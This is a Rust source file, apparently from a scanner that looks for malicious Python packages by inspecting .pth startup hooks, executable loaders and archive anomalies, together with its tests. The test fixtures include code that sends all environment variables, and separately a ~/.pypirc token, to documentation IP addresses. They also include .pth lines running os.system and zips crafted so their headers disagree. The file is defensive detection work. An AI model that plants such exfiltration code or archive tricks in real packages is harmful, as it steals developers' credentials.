        .collect();
    if again.is_empty() {
        return;
    }
    let queue = c.queue;
    let superseded = &mut c.superseded;
    archive::read_source(source, limits, &|p: &str| again.contains_key(p), &mut |m| {
        let (Some(&seen), Some(data)) = (again.get(&m.path), m.data) else {
            return;
        };
        superseded.insert(seen);
        let lower = m.path.to_ascii_lowercase();
        queue.push(Job {
            sha256: sha2::Sha256::digest(&data).into(),
            role: analyze::role(&m.path, startup_modules),
            script: false,
            deferred: true,
            python: lower.ends_with(".py"),
            seen,
            path: m.path,
            data,
        });
    });
}

/// Words of code that starts a program, and of code that loads a native
/// library (what an honest package with a bundled DLL does).
const STARTERS: &[&str] = &[
    "Popen",
    "os.system",
    "startfile",
    "subprocess.",
    "spawn",
    "os.exec",
    "execv",
];
const LOADERS: &[&str] = &["CDLL", "cdll.", "windll.", "WinDLL", "LoadLibrary"];

/// A Python file that names an executable of the package and starts
/// programs or loads libraries.
#[derive(Clone)]
struct Loader {
    file: String,
    /// The line that names the executable.
    line: u32,
    role: analyze::Role,
    /// A program is started from code that runs unasked (at the top level
    /// or in what it calls, of a file that runs on import or install).
    starts_unasked: bool,
}

impl Loader {
    /// Which of two loaders the finding names: the one that starts a
    /// program unasked, then the one that runs hottest, then the last by path.
    fn rank(a: &Self, b: &Self) -> std::cmp::Ordering {
        (a.starts_unasked, a.role, &a.file).cmp(&(b.starts_unasked, b.role, &b.file))
    }
}

/// The loader of `base` (an executable's file name) among kept texts: the
/// Python file that names it and starts programs or loads libraries, ranked
/// by [`Loader::rank`].
fn loader_of(texts: &std::collections::BTreeMap<String, Vec<u8>>, base: &str) -> Option<Loader> {
    texts
        .iter()
        .filter(|(p, _)| p.to_ascii_lowercase().ends_with(".py"))
        .filter_map(|(p, data)| loader_in(p, &text_of(data), base))
        .max_by(Loader::rank)
}

/// `p` as a loader of `base`: a Python file outside tests that names it
/// and starts programs or loads libraries.
fn loader_in(p: &str, text: &str, base: &str) -> Option<Loader> {
    let starts = STARTERS.iter().any(|w| text.contains(w));
    if !(starts || LOADERS.iter().any(|w| text.contains(w))) || !names_file(text, base) {
        return None;
    }
    let role = analyze::role(p, &[]);
    if role == analyze::Role::Test {
        return None;
    }
    let line_of = |i: usize| u32::try_from(i + 1).unwrap_or(u32::MAX);
    let line = text
        .lines()
        .position(|l| names_file(l, base))
        .map_or(1, line_of);
    let starts_unasked = starts && role >= analyze::Role::Init && {
        let want = python::Want {
            reach: true,
            script: role == analyze::Role::Install,
            beacons: false,
            parse: true,
        };
        python::analyse(text, want).reach.is_some_and(|r| {
            text.lines()
                .enumerate()
                .any(|(i, l)| STARTERS.iter().any(|w| l.contains(w)) && r.unasked(line_of(i)))
        })
    };
    Some(Loader {
        file: p.to_string(),
        line,
        role,
        starts_unasked,
    })
}

/// The member a path spelled in code names: the same path relative to the
/// runner's directory or to any directory above it, else the one member
/// with that file name.
fn member_named<'t>(
    texts: &'t std::collections::BTreeMap<String, Vec<u8>>,
    runner: &str,
    spelled: &str,
) -> Option<(&'t String, &'t Vec<u8>)> {
    let spelled = spelled.trim().trim_start_matches("./").replace('\\', "/");
    if spelled.is_empty() || spelled.contains("..") {
        return None;
    }
    let mut dir = runner;
    while let Some((parent, _)) = dir.rsplit_once('/') {
        if let Some(hit) = texts.get_key_value(&format!("{parent}/{spelled}")) {
            return Some(hit);
        }
        dir = parent;
    }
    if let Some(hit) = texts.get_key_value(spelled.as_str()) {
        return Some(hit);
    }
    let base = spelled.rsplit('/').next().unwrap_or(&spelled);
    let mut named = texts
        .iter()
        .filter(|(p, _)| p.rsplit('/').next() == Some(base));
    match (named.next(), named.next()) {
        (Some(one), None) => Some(one),
        _ => None,
    }
}

/// Files that Python code runs (`exec(open(P).read())`, `runpy.run_path`)
/// are code in the runner's context, whatever their name: each is analysed
/// as Python in the runner's role. A `.py` file already analysed in a role
/// as hot is left as it was; one run from a hotter place (a module that
/// setup.py executes) is judged again there, in place of its own role.
fn run_as_code(
    rules: &rules::Rules,
    runs: &[(String, analyze::Role, python::RunFile)],
    texts: &std::collections::BTreeMap<String, Vec<u8>>,
    findings: &mut Vec<(Option<String>, MemberFinding)>,
) {
    let mut done = std::collections::BTreeSet::new();
    for (runner, role, run) in runs {
        let Some((target, text)) = member_named(texts, runner, &run.path) else {
            continue;
        };
        let python_file = target.to_ascii_lowercase().ends_with(".py");
        if target == runner
            || (python_file && analyze::role(target, &[]) >= *role)
            || !done.insert(target.clone())
        {
            continue;
        }
        if python_file {
            findings.retain(|(p, f)| {
                p.as_deref() != Some(target.as_str()) || f.rule == RuleId::ArchiveAnomaly
            });
        }
        for mut f in analyze::analyze_python(rules, target, text, *role) {
            f.evidence.push((
                "run-by".into(),
                format!("{runner}:{} ({})", run.line, run.runner),
            ));
            findings.push((Some(target.clone()), f));
        }
    }
}

/// What is inside an inner archive runs only if the package unpacks or
/// imports it, and that code is scanned in the outer archive: findings in
/// inner archives are low at most, and say where they are.
fn cap_nested(findings: &mut [(Option<String>, MemberFinding)], launchers: &str) {
    for (member, f) in findings.iter_mut() {
        let Some((archive, inner)) = member.as_deref().and_then(|m| m.split_once("!/")) else {
            continue;
        };
        let base = archive.rsplit('/').next().unwrap_or(archive);
        let inner_base = inner
            .rsplit('/')
            .next()
            .unwrap_or(inner)
            .to_ascii_lowercase();
        // Startup code (a `sitecustomize` or a `.pth` inside an archive on the
        // path) and archives a `.pth` or setup.py names keep their severity.
        let runs = names_file(launchers, base)
            || inner_base == "sitecustomize.py"
            || inner_base == "usercustomize.py"
            || inner_base.ends_with(".pth");
        if !runs && f.severity > Severity::Low {
            f.severity = Severity::Low;
            f.evidence.push((
                "nested".into(),
                format!("inside {archive}: runs only if the package unpacks or imports it"),
            ));
        }
    }
}

/// Whether `text` names the file `base` as a word of its own (`tool` in
/// `'bin/tool'`, not in `setuptools`).
fn names_file(text: &str, base: &str) -> bool {
    if base.is_empty() {
        return false;
    }
    let ident = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
    text.match_indices(base).any(|(i, _)| {
        !ident(text[..i].chars().next_back()) && !ident(text[i + base.len()..].chars().next())
    })
}

/// Modules a startup line may import without being suspect by that alone.
const STARTUP_STDLIB: &[&str] = &["os", "sys", "site", "types", "importlib", "warnings"];

/// Calls that make a startup line more than a switch for its own modules:
/// starting programs, talking to the network, running or loading code,
/// writing or removing files.
const STARTUP_RUNNERS: &[&str] = &[
    "os.system",
    "os.popen",
    "os.exec",
    "os.spawn",
    "os.startfile",
    "os.remove",
    "os.unlink",
    "subprocess.",
    "socket.",
    "urllib",
    "requests.",
    "http.",
    "ctypes.",
    "shutil.",
    "importlib.",
    "builtins.exec",
    "builtins.eval",
    "builtins.compile",
    "builtins.__import__",
    "builtins.open",
];

/// The findings of a `.pth` file. Where it is decides first: one in tests or
/// docs is never installed as a startup hook. A line whose code (its literal
/// `exec('...')` strings unfolded) does something the scanner reports is
/// critical; one that only imports this distribution's own modules (which
/// are then analysed as startup code) is low; anything else is high.
fn pth_findings(
    rules: &rules::Rules,
    path: &str,
    data: &[u8],
    own_modules: &std::collections::BTreeSet<String>,
) -> Vec<MemberFinding> {
    let text = String::from_utf8_lossy(data);
    let fixture = analyze::role(path, &[]) == analyze::Role::Test;
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let l = line.trim_start();
        if !(l.starts_with("import ") || l.starts_with("import\t")) || known_pth_line(l) {
            continue;
        }
        let shown: String = l.chars().take(160).collect();
        let at = u32::try_from(i + 1).ok();
        let finding = |severity, confidence, message: String| MemberFinding {
            rule: RuleId::PthStartupHook,
            severity,
            confidence,
            line: at,
            message,
            evidence: vec![("snippet".into(), shown.clone())],
        };
        if fixture {
            out.push(finding(
                Severity::Low,
                Confidence::Low,
                "a .pth file in tests, docs or examples: not installed as a startup hook".into(),
            ));
            continue;
        }
        if let Some(startup) = python::startup_line(l) {
            let inner: Vec<MemberFinding> =
                analyze::analyze(rules, path, startup.code.as_bytes(), analyze::Role::Startup)
                    .into_iter()
                    .filter(|f| f.severity >= Severity::Medium)
                    .collect();
            if !inner.is_empty() {
                let rules_found: Vec<&str> = inner.iter().map(|f| f.rule.as_str()).collect();
                out.push(finding(
                    Severity::Critical,
                    Confidence::High,
                    format!(
                        "a .pth line runs code at every interpreter start and it is {}",
                        rules_found.join(", ")
                    ),
                ));
                out.extend(inner.into_iter().map(|mut f| {
                    f.line = at;
                    f
                }));
                continue;
            }
            let foreign: Vec<&String> = startup
                .imports
                .iter()
                .filter(|m| !own_modules.contains(*m) && !STARTUP_STDLIB.contains(&m.as_str()))
                .collect();
            // Calls into its own modules and on its own values are a switch;
            // starting, fetching, loading or writing anything is not.
            let quiet_call = |c: &String| !STARTUP_RUNNERS.iter().any(|r| c.starts_with(r));
            if foreign.is_empty() && startup.calls.iter().all(quiet_call) {
                let own: Vec<&str> = startup
                    .imports
                    .iter()
                    .filter(|m| own_modules.contains(*m))
                    .map(String::as_str)
                    .collect();
                out.push(finding(
                    Severity::Low,
                    Confidence::Medium,
                    format!(
                        "a .pth line runs code at every interpreter start; it imports only this distribution's own modules ({}), analysed as startup code",
                        if own.is_empty() { "none".to_string() } else { own.join(", ") }
                    ),
                ));
                continue;
            }
        }
        let hits = rules.scan(l.as_bytes(), 8);
        let kinds: Vec<&str> = hits
            .iter()
            .map(|h| rules.indicators[h.indicator].id.as_str())
            .collect();
        if kinds.is_empty() {
            out.push(finding(
                Severity::High,
                Confidence::Medium,
                "a .pth line runs code at every interpreter start".into(),
            ));
        } else {
            out.push(finding(
                Severity::Critical,
                Confidence::High,
                format!(
                    "a .pth line runs code at every interpreter start and it {}",
                    kinds.join(", ")
                ),
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_pth_lines_are_quiet_and_others_are_not() {
        assert!(known_pth_line(
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); "
        ));
        assert!(known_pth_line(
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',))"
        ));
        assert!(!known_pth_line(
            "import os; exec(__import__('base64').b64decode('cHJpbnQ='))"
        ));
        assert_eq!(
            pth_imports("import evil_hook\n/some/path\n"),
            vec!["evil_hook"]
        );
    }

    #[test]
    fn setup_py_names_a_file_only_as_a_word() {
        assert!(names_file("subprocess.call(['bin/tool'])", "tool"));
        assert!(!names_file("from setuptools import setup", "tool"));
        assert!(!names_file("x", ""));
    }

    /// Whatever the bytes (a wheel with bytes changed, cut short or
    /// shuffled), a scan of what streaming kept either finds what a scan of
    /// the whole file finds, or says the file must be read whole: it never
    /// judges other bytes, and never panics.
    #[test]
    fn a_streamed_scan_judges_the_same_bytes_or_asks_for_the_whole_file() {
        // Past the end window that is always kept: bytes that do not
        // compress.
        let mut elf = b"\x7fELF\x02\x01".to_vec();
        elf.extend(stream::tests::noise(120_000));
        let wheel = zip(&[
            ("pkg/_ext.so", &elf[..]),
            ("pkg/__init__.py", PAYLOAD),
            ("pkg/data.bin", &elf[..]),
            ("pkg/mod.py", b"import os\nprint(os.name)\n"),
            ("pkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ]);
        let limits = Limits::default();
        let mut x = 0x853c_49e6_748f_ea9bu64;
        let mut next = |n: usize| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            usize::try_from(x % n as u64).unwrap_or(0)
        };
        let (mut same, mut whole) = (0, 0);
        for round in 0..300 {
            let mut bytes = wheel.clone();
            match round % 3 {
                0 => {
                    for _ in 0..=next(4) {
                        let at = next(bytes.len());
                        bytes[at] = u8::try_from(next(256)).unwrap_or(0);
                    }
                }
                1 => bytes.truncate(next(bytes.len())),
                _ => {
                    let (a, b) = (next(bytes.len()), next(bytes.len()));
                    let (a, b) = (a.min(b), a.max(b));
                    bytes[a..b].reverse();
                }
            }
            let declared = if round % 7 == 0 {
                wheel.len()
            } else {
                bytes.len()
            };
            let mut s = stream::Streamed::new(Some(declared as u64), u64::MAX, wanted_whole);
            for c in bytes.chunks(1 + next(5000)) {
                s.push(c).unwrap();
            }
            let expected = scan_bytes("pkg-1.0-py3-none-any.whl", &bytes, &limits).unwrap();
            match scan_held("pkg-1.0-py3-none-any.whl", s.finish(), &limits).unwrap() {
                Some(got) => {
                    same += 1;
                    assert_eq!(rules_of(&got), rules_of(&expected), "round {round}");
                    assert_eq!(got.gaps, expected.gaps, "round {round}");
                }
                None => whole += 1,
            }
        }
        assert!(
            same > 50 && whole > 10,
            "{same} judged as kept, {whole} read whole"
        );
    }

    /// A reader that gives at most `step` bytes at a time (as a network does).
    struct Trickle {
        bytes: Vec<u8>,
        at: usize,
        step: usize,
    }

    impl std::io::Read for Trickle {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let n = buf.len().min(self.step).min(self.bytes.len() - self.at);
            buf[..n].copy_from_slice(&self.bytes[self.at..self.at + n]);
            self.at += n;
            Ok(n)
        }
    }

    fn streamed(bytes: &[u8], step: usize) -> Option<ArchiveScan> {
        let reader = Trickle {
            bytes: bytes.to_vec(),
            at: 0,
            step,
        };
        let once = archive::Once::new(Box::new(reader), bytes.len() as u64);
        scan_stream("pkg-1.0.tar.gz", &once, &Limits::default()).unwrap()
    }

    /// An sdist read once as it streams in finds what a read of the whole
    /// file finds; one whose scan needs a second read (a file setup.py
    /// runs) is said, and a truncated one has the whole read's gaps.
    #[test]
    fn a_tar_read_as_it_streams_judges_like_the_whole_file_or_asks_for_it() {
        let noise = stream::tests::noise(300_000);
        let sdist = targz(&[
            (
                "pkg-1.0/setup.py",
                b"from setuptools import setup\nsetup(name='pkg')\n",
            ),
            ("pkg-1.0/pkg/blob.so", &noise[..]),
            ("pkg-1.0/pkg/__init__.py", PAYLOAD),
            ("pkg-1.0/pkg/x.pth", b"import os; os.system('id')\n"),
        ]);
        let whole = scan_bytes("pkg-1.0.tar.gz", &sdist, &Limits::default()).unwrap();
        assert!(!whole.findings.is_empty());
        for step in [1, 7, 4096, 1 << 20] {
            let got = streamed(&sdist, step).expect("read once");
            assert_eq!(rules_of(&got), rules_of(&whole), "step {step}");
            assert_eq!(got.members, whole.members);
            assert!(got.gaps.is_empty(), "{:?}", got.gaps);
        }
        // setup.py runs another file: its text is read again, which a
        // stream cannot do.
        let runs = targz(&[
            (
                "pkg-1.0/setup.py",
                b"exec(open('pkg/version.py').read())\nfrom setuptools import setup\nsetup(name='pkg')\n",
            ),
            ("pkg-1.0/pkg/version.py", b"__version__ = '1.0'\n"),
        ]);
        assert!(streamed(&runs, 4096).is_none());
        assert!(scan_bytes("pkg-1.0.tar.gz", &runs, &Limits::default()).is_ok());
        // So is an executable in it: the files that may load it are read again.
        let mut elf = b"\x7fELF\x02\x01".to_vec();
        elf.extend(&noise[..1000]);
        let binary = targz(&[
            ("pkg-1.0/pkg/tool", &elf[..]),
            ("pkg-1.0/pkg/a.py", PAYLOAD),
        ]);
        assert!(streamed(&binary, 4096).is_none());
        // A stream cut short is a gap, as the whole file's read says.
        let cut = &sdist[..sdist.len() / 2];
        let got = streamed(cut, 4096).expect("read once");
        assert!(!got.gaps.is_empty());
        assert_eq!(
            got.gaps,
            scan_bytes("pkg-1.0.tar.gz", cut, &Limits::default())
                .unwrap()
                .gaps
        );
    }

    /// A wheel read once as it streams in, by its local headers, finds what
    /// the read through its central directory finds, or says the file must
    /// be read whole: never other bytes, never a panic.
    #[test]
    fn a_zip_read_as_it_streams_judges_like_its_directory_or_asks_for_it() {
        let mut elf = b"\x7fELF\x02\x01".to_vec();
        elf.extend(stream::tests::noise(120_000));
        let wheel = zip(&[
            ("pkg/_ext.so", &elf[..]),
            ("pkg/__init__.py", PAYLOAD),
            ("pkg/", b""),
            ("pkg/mod.py", b"import os\nprint(os.name)\n"),
            ("pkg/x.pth", b"import os; os.system('id')\n"),
            ("pkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ]);
        let limits = Limits::default();
        let name = "pkg-1.0-cp312-cp312-manylinux_2_17_x86_64.whl";
        let whole = scan_bytes(name, &wheel, &limits).unwrap();
        assert!(rules_of(&whole).len() >= 2, "{:?}", rules_of(&whole));
        let streamed = |bytes: &[u8], step: usize, declared: usize| {
            let reader = Trickle {
                bytes: bytes.to_vec(),
                at: 0,
                step,
            };
            let once = archive::Once::new(Box::new(reader), declared as u64);
            scan_stream(name, &once, &limits).unwrap()
        };
        for step in [1, 13, 4096, 1 << 20] {
            let got = streamed(&wheel, step, wheel.len()).expect("read once");
            assert_eq!(rules_of(&got), rules_of(&whole), "step {step}");
            assert_eq!(got.members, whole.members);
            assert_eq!(got.record, whole.record);
            assert!(got.gaps.is_empty(), "{:?}", got.gaps);
        }
        // A local header that names another file than the directory.
        let mut lying = wheel.clone();
        let at = lying
            .windows(15)
            .position(|w| w == b"pkg/__init__.py")
            .unwrap();
        lying[at + 12..at + 15].copy_from_slice(b"txt");
        assert!(streamed(&lying, 4096, lying.len()).is_none());
        // Sizes in data descriptors (a zip written as a stream).
        let mut w = zip::ZipWriter::new_stream(Vec::new());
        w.start_file("pkg/__init__.py", zip::write::SimpleFileOptions::default())
            .unwrap();
        std::io::Write::write_all(&mut w, PAYLOAD).unwrap();
        let described = w.finish().unwrap().into_inner();
        assert!(streamed(&described, 4096, described.len()).is_none());
        // A zip64 local header whose member would run past any end.
        let mut huge = b"PK\x03\x04\x2d\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec();
        huge.extend(u32::MAX.to_le_bytes());
        huge.extend(u32::MAX.to_le_bytes());
        huge.extend(4u16.to_le_bytes());
        huge.extend(20u16.to_le_bytes());
        huge.extend(b"a.py\x01\0\x10\0");
        huge.extend(10u64.to_le_bytes());
        huge.extend(u64::MAX.to_le_bytes());
        huge.extend(&wheel[..200]);
        assert!(streamed(&huge, 4096, huge.len()).is_none());
        // Damaged in every way: the same judgement as the directory's, or
        // read whole.
        let mut x = 0x2545_f491_4f6c_dd1du64;
        let mut next = |n: usize| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            usize::try_from(x % n as u64).unwrap_or(0)
        };
        let (mut same, mut again) = (0, 0);
        for round in 0..300 {
            let mut bytes = wheel.clone();
            match round % 3 {
                0 => {
                    let at = next(bytes.len());
                    bytes[at] = u8::try_from(next(256)).unwrap_or(0);
                }
                1 => bytes.truncate(next(bytes.len())),
                _ => {
                    let (a, b) = (next(bytes.len()), next(bytes.len()));
                    bytes[a.min(b)..a.max(b)].reverse();
                }
            }
            let declared = if round % 7 == 0 {
                wheel.len()
            } else {
                bytes.len()
            };
            let expected = scan_bytes(name, &bytes, &limits).unwrap();
            match streamed(&bytes, 1 + next(5000), declared) {
                Some(got) => {
                    same += 1;
                    assert_eq!(rules_of(&got), rules_of(&expected), "round {round}");
                    assert_eq!(got.gaps, expected.gaps, "round {round}");
                }
                None => again += 1,
            }
        }
        assert!(
            same > 30 && again > 30,
            "{same} read once, {again} read whole"
        );
    }

    /// A `.tar.gz` of two gzip members is one tar, as Python's `tarfile`
    /// (and so pip) reads it: what the second holds is scanned too.
    #[test]
    fn every_gzip_member_of_an_sdist_is_read() {
        let raw = |files: &[(&str, &[u8])]| {
            let mut b = tar::Builder::new(Vec::new());
            for (path, data) in files {
                let mut header = tar::Header::new_gnu();
                header.set_size(data.len() as u64);
                header.set_mode(0o644);
                header.set_entry_type(tar::EntryType::Regular);
                b.append_data(&mut header, path, *data).unwrap();
            }
            b.into_inner().unwrap()
        };
        let gz = |bytes: &[u8]| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            std::io::Write::write_all(&mut e, bytes).unwrap();
            e.finish().unwrap()
        };
        // The first member ends without the tar's end blocks.
        let first = raw(&[("pkg-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: pkg\n")]);
        let mut sdist = gz(&first[..first.len() - 1024]);
        sdist.extend(gz(&raw(&[("pkg-1.0/setup.py", PAYLOAD)])));
        let scan = scan_bytes("pkg-1.0.tar.gz", &sdist, &Limits::default()).unwrap();
        assert_eq!(scan.members, 2);
        assert!(
            scan.findings
                .iter()
                .any(|(m, _)| m.as_deref() == Some("pkg-1.0/setup.py")),
            "{:?}",
            rules_of(&scan)
        );
        let got = streamed(&sdist, 4096).expect("read once");
        assert_eq!(rules_of(&got), rules_of(&scan));
    }

    /// A GNU long name of megabytes (which the tar reader would hold whole,
    /// gigabytes of it from a small `.tar.gz`) is a gap, not read; one of a
    /// few KiB is a name.
    #[test]
    fn a_tar_long_name_of_megabytes_is_a_gap() {
        let long = format!("pkg-1.0/{}.py", "a".repeat(2 << 20));
        let sdist = targz(&[(&long, PAYLOAD), ("pkg-1.0/setup.py", b"print(1)\n")]);
        let scan = scan_bytes("pkg-1.0.tar.gz", &sdist, &Limits::default()).unwrap();
        assert!(
            scan.gaps
                .iter()
                .any(|g| g.contains("headers between two members")),
            "{:?}",
            scan.gaps
        );
        let fine = format!("pkg-1.0/{}.py", "a".repeat(3000));
        let sdist = targz(&[(&fine, PAYLOAD)]);
        let scan = scan_bytes("pkg-1.0.tar.gz", &sdist, &Limits::default()).unwrap();
        assert!(scan.gaps.is_empty(), "{:?}", scan.gaps);
        assert!(
            scan.findings
                .iter()
                .any(|(m, _)| m.as_deref() == Some(fine.as_str())),
            "{:?}",
            rules_of(&scan)
        );
    }

    /// A zip whose local headers hold a member its central directory does
    /// not list (what an installer reading local headers would install,
    /// and neither pip nor the scan read), or name a member otherwise, is
    /// a high anomaly; an honest zip is not.
    #[test]
    fn a_zip_whose_local_headers_and_directory_disagree_is_a_high_anomaly() {
        let honest = zip(&[
            ("pkg/__init__.py", b"x = 1\n"),
            ("pkg/evil.py", PAYLOAD),
            ("pkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ]);
        let disagree = |scan: &ArchiveScan| {
            scan.findings.iter().any(|(_, f)| {
                f.rule == RuleId::ArchiveAnomaly
                    && f.severity == Severity::High
                    && f.message.contains("local headers")
            })
        };
        let name = "pkg-1.0-py3-none-any.whl";
        assert!(!disagree(
            &scan_bytes(name, &honest, &Limits::default()).unwrap()
        ));
        // Drop `pkg/evil.py` from the directory only.
        let cd_at = honest.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        let eocd_at = honest.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
        let mut entries = Vec::new();
        let mut at = cd_at;
        while at < eocd_at {
            let len =
                |o: usize| usize::from(u16::from_le_bytes([honest[at + o], honest[at + o + 1]]));
            let end = at + 46 + len(28) + len(30) + len(32);
            entries.push(honest[at..end].to_vec());
            at = end;
        }
        let kept: Vec<u8> = entries
            .iter()
            .filter(|e| !e.windows(11).any(|w| w == b"pkg/evil.py"))
            .flatten()
            .copied()
            .collect();
        let mut hidden = honest[..cd_at].to_vec();
        hidden.extend(&kept);
        let mut eocd = honest[eocd_at..].to_vec();
        eocd[8..10].copy_from_slice(&2u16.to_le_bytes());
        eocd[10..12].copy_from_slice(&2u16.to_le_bytes());
        eocd[12..16].copy_from_slice(&u32::try_from(kept.len()).unwrap().to_le_bytes());
        hidden.extend(eocd);
        let scan = scan_bytes(name, &hidden, &Limits::default()).unwrap();
        assert_eq!(scan.members, 2, "{:?}", rules_of(&scan));
        assert!(disagree(&scan), "{:?}", rules_of(&scan));
        // Twice the same name (pip installs both, the last one last): no
        // disagreement.
        let mut twice = zip(&[("pkg/aa.py", b"x = 1\n"), ("pkg/bb.py", PAYLOAD)]);
        for at in twice
            .windows(9)
            .enumerate()
            .filter(|(_, w)| *w == b"pkg/bb.py")
            .map(|(i, _)| i)
            .collect::<Vec<_>>()
        {
            twice[at..at + 9].copy_from_slice(b"pkg/aa.py");
        }
        let scan = scan_bytes(name, &twice, &Limits::default()).unwrap();
        assert!(!disagree(&scan), "{:?}", rules_of(&scan));
        assert!(!rules_of(&scan).is_empty(), "the payload is read");
        // A name in Info-ZIP's Unicode path field (the raw name in another
        // code page): the same name on both sides.
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let raw_name = b"pkg/donn\x82es.py";
        let mut upath = vec![1u8];
        upath.extend(crc32fast::hash(raw_name).to_le_bytes());
        upath.extend("pkg/données.py".as_bytes());
        let mut opts = zip::write::FullFileOptions::default();
        opts.add_extra_field(0x7075, upath.clone(), false).unwrap();
        w.start_file(String::from_utf8_lossy(raw_name), opts)
            .unwrap();
        std::io::Write::write_all(&mut w, b"x = 1\n").unwrap();
        let unicode = w.finish().unwrap().into_inner();
        let scan = scan_bytes(name, &unicode, &Limits::default()).unwrap();
        assert!(!disagree(&scan), "{:?}", rules_of(&scan));
        // A local header that names the member otherwise.
        let mut lying = honest.clone();
        let at = lying.windows(11).position(|w| w == b"pkg/evil.py").unwrap();
        lying[at + 9..at + 11].copy_from_slice(b"pz");
        assert!(disagree(
            &scan_bytes(name, &lying, &Limits::default()).unwrap()
        ));
    }

    /// A tar is read as Python's tarfile (and so pip) reads it: a size in a
    /// PAX record is the size, contiguous ('7') entries are files, and
    /// thousands of directories in a row are no hostile header.
    #[test]
    fn a_tar_is_read_as_pythons_tarfile_reads_it() {
        let gz = |tar: Vec<u8>| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            std::io::Write::write_all(&mut e, &tar).unwrap();
            e.finish().unwrap()
        };
        let header = |path: &str, size: u64, kind: tar::EntryType| {
            let mut h = tar::Header::new_ustar();
            h.set_path(path).unwrap();
            h.set_size(size);
            h.set_mode(0o644);
            h.set_entry_type(kind);
            h.set_cksum();
            h
        };
        let found = |sdist: &[u8]| {
            let scan = scan_bytes("pkg-1.0.tar.gz", sdist, &Limits::default()).unwrap();
            assert!(scan.gaps.is_empty(), "{:?}", scan.gaps);
            scan.findings
                .iter()
                .any(|(m, _)| m.as_deref() == Some("pkg-1.0/setup.py"))
        };
        // The header says 1 byte, a PAX record the whole payload.
        let mut b = tar::Builder::new(Vec::new());
        let len = PAYLOAD.len().to_string();
        b.append_pax_extensions([("size", len.as_bytes())]).unwrap();
        let h = header("pkg-1.0/setup.py", 1, tar::EntryType::Regular);
        let raw = b.get_mut();
        raw.extend_from_slice(h.as_bytes());
        raw.extend_from_slice(PAYLOAD);
        raw.resize(raw.len().next_multiple_of(512), 0);
        assert!(found(&gz(b.into_inner().unwrap())));
        // A contiguous file.
        let mut b = tar::Builder::new(Vec::new());
        let h = header(
            "pkg-1.0/setup.py",
            PAYLOAD.len() as u64,
            tar::EntryType::Continuous,
        );
        b.append(&h, PAYLOAD).unwrap();
        assert!(found(&gz(b.into_inner().unwrap())));
        // 3,000 directories, then the file.
        let mut b = tar::Builder::new(Vec::new());
        for i in 0..3000 {
            let h = header(&format!("pkg-1.0/d{i}/"), 0, tar::EntryType::Directory);
            b.append(&h, &[][..]).unwrap();
        }
        let h = header(
            "pkg-1.0/setup.py",
            PAYLOAD.len() as u64,
            tar::EntryType::Regular,
        );
        b.append(&h, PAYLOAD).unwrap();
        assert!(found(&gz(b.into_inner().unwrap())));
    }

    #[test]
    fn text_is_what_lossy_decoding_gives_and_valid_text_is_borrowed() {
        for bytes in [
            &b"print('ok')\n"[..],
            "caf\u{e9} = 1".as_bytes(),
            b"x = '\xff\xfe'\n",
            b"",
        ] {
            assert_eq!(text_of(bytes), String::from_utf8_lossy(bytes));
        }
        assert!(matches!(text_of(b"a = 1"), std::borrow::Cow::Borrowed(_)));
    }

    #[test]
    fn magic_bytes() {
        assert_eq!(binary_kind(b"\x7fELF\x02\x01"), Some("ELF executable"));
        assert_eq!(binary_kind(b"print('MZ')"), None);
        assert!(pure_wheel("x-1.0-py3-none-any.whl"));
        assert!(!pure_wheel("x-1.0-cp312-cp312-manylinux_2_17_x86_64.whl"));
    }

    fn targz(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
            Vec::new(),
            flate2::Compression::fast(),
        ));
        for (path, data) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(data.len() as u64);
            header.set_mode(0o644);
            header.set_entry_type(tar::EntryType::Regular);
            builder.append_data(&mut header, path, *data).unwrap();
        }
        builder.into_inner().unwrap().finish().unwrap()
    }

    fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for (path, data) in files {
            w.start_file(*path, zip::write::SimpleFileOptions::default())
                .unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    const PAYLOAD: &[u8] = b"import os, urllib.request, json\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\n";

    fn rules_of(scan: &ArchiveScan) -> Vec<(RuleId, Option<String>)> {
        scan.findings
            .iter()
            .map(|(m, f)| (f.rule, m.clone()))
            .collect()
    }

    #[test]
    fn the_memo_shares_an_analysis_only_where_everything_it_reads_is_the_same() {
        // The same bytes as a package's `__init__` (critical: runs on
        // import), as one of its modules (high), and in the same package's
        // sdist and wheel: each is judged in its own role, whatever was
        // analysed before in this process.
        let code = b"import os, requests\n# the memo test's own module, long enough to be kept in the memo: a few\n# more words of comment so that it passes the memo's smallest size, which\n# smaller files do not (they are analysed again rather than hashed).\n\ndef send():\n    token = open(os.path.expanduser('~/.pypirc')).read()\n    requests.post('http://203.0.113.77/memo-test', data=token)\n\nsend()\n";
        assert!(code.len() >= memo::MIN_BYTES);
        let worst = |scan: &ArchiveScan| {
            scan.findings
                .iter()
                .filter(|(_, f)| f.rule == RuleId::Exfiltration)
                .map(|(p, f)| (p.clone().unwrap_or_default(), f.severity))
